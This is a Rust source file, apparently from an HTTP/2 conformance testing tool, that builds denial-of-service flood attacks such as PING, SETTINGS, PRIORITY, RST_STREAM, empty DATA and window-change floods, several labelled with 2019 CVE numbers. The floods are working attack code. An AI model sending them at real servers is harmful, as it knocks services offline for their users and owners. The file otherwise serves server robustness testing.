//! Frames that cost their sender next to nothing, without end.

use conformance_wire::frames::{
    DATA, END_HEADERS, Frame, HEADERS, INITIAL_WINDOW_SIZE, PING, RST_STREAM, WINDOW_UPDATE,
    header_block,
};

use super::{Attack, Means, POST_TO_ROOT, RUN, hello, settings};
use crate::attacker::{Piece, Reading};

/// A kind that RFC 9113 has deprecated.
const PRIORITY: u8 = 2;
/// A kind that nobody knows.
const UNKNOWN: u8 = 0xfa;

pub(super) fn all() -> Vec<Attack> {
    vec![
        Attack::new("flood of PING", 4, |means| filling(means, &Frame::new(PING, 0, 0, [7; 8])))
            .sends("PING without end; it reads no answer")
            .known_as("CVE-2019-9512")
            .reading(Reading::Nothing)
            .that_fills_by_sending(),
        Attack::new("flood of SETTINGS", 4, |means| filling(means, &settings(&[])))
            .sends("empty SETTINGS without end; it reads no acknowledgement")
            .known_as("CVE-2019-9515")
            .reading(Reading::Nothing)
            .that_fills_by_sending(),
        Attack::new("flood of PRIORITY", 4, |means| {
            flood(means, &[], &Frame::new(PRIORITY, 0, 1, [0, 0, 0, 3, 16]))
        })
        .sends("PRIORITY without end, for a stream that is not open")
        .known_as("CVE-2019-9513")
        .reading(Reading::Nothing),
        Attack::new("flood of unknown frames", 4, |means| {
            flood(means, &[], &Frame::new(UNKNOWN, 0, 1, []))
        })
        .sends("frames of a kind that nobody knows, without end")
        .reading(Reading::Nothing),
        Attack::new("flood of WINDOW_UPDATE", 4, |means| {
            flood(means, &[], &Frame::new(WINDOW_UPDATE, 0, 0, [0, 0, 0, 1]))
        })
        .sends("WINDOW_UPDATE by a byte without end")
        .reading(Reading::Nothing),
        Attack::new("flood of resets of streams that are closed", 4, |means| {
            let reset = Frame::new(RST_STREAM, 0, 1, [0, 0, 0, 8]);
            flood(means, &[opened(means)], &reset)
        })
        .sends("a signed call, and resets of it without end"),
        Attack::new("flood of empty DATA", 4, |means| {
            flood(means, &[opened(means)], &Frame::new(DATA, 0, 1, []))
        })
        .sends("a signed call, and DATA of no bytes without end")
        .known_as("CVE-2019-9518"),
        Attack::new("flood of SETTINGS that change all windows", 4, |means| {
            let many: Vec<_> = (0..100)
                .map(|number| Frame::new(HEADERS, END_HEADERS, 2 * number + 1, POST_TO_ROOT))
                .collect();
            let window = |bytes| settings(&[(INITIAL_WINDOW_SIZE, bytes)]).bytes();
            let windows = [window(256), window(512)].concat().repeat(250);
            vec![opening(&many), Piece::repeated(windows, 10 * means.form.scale)]
        })
        .sends("100 open streams, and SETTINGS without end that change the windows of all of them")
        .reading(Reading::Nothing),
    ]
}

fn opened(means: &Means) -> Frame {
    Frame::new(HEADERS, END_HEADERS, 1, header_block(&means.signed(RUN)))
}

/// These frames, and the last one a hundred thousand times.
fn flood(means: &Means, first: &[Frame], frame: &Frame) -> Vec<Piece> {
    vec![opening(first), Piece::repeated(frame.bytes().repeat(1000), 100 * means.form.scale)]
}

/// The frame so often that a server which kept an answer of its size to each would be full.
fn filling(means: &Means, frame: &Frame) -> Vec<Piece> {
    let frames = frame.bytes().repeat(1000);
    let times = means.form.share(4) / frames.len() + 1;
    vec![opening(&[]), Piece::repeated(frames, times)]
}

fn opening(first: &[Frame]) -> Piece {
    let first = first.iter().flat_map(Frame::bytes);
    Piece::once(hello(&[]).into_iter().chain(first).collect::<Vec<_>>())
}
